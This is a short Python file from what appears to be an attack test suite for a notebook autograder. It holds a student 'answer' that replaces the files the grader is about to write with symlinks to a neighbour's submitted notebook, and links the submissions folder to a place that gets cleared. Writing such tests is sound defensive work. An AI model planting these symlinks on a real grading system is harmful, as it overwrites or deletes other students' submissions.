"""Puts links in place of what the grader will write next, so that it writes somewhere else."""

from tests.attacks.suite import STUB, Attack

# nbgrader runs a notebook in the folder where it will write it, and follows a link there.
ATTACK = Attack(
    harm="another student's submission overwritten by the grader itself",
    answer=STUB
    + """
import os

victim = f"{COURSE}/submitted/{NEIGHBOUR}/4_parameter_update/10_update_parameters.ipynb"
for name in ("10_update_parameters.ipynb", "timestamp.txt", "update_parameters.json"):
    try:
        if os.path.lexists(name):
            os.remove(name)
        os.symlink(victim, name)
    except OSError:
        pass
try:
    os.symlink(f"{COURSE}/submitted", "a folder that is cleared away")
except OSError:
    pass
""",
)
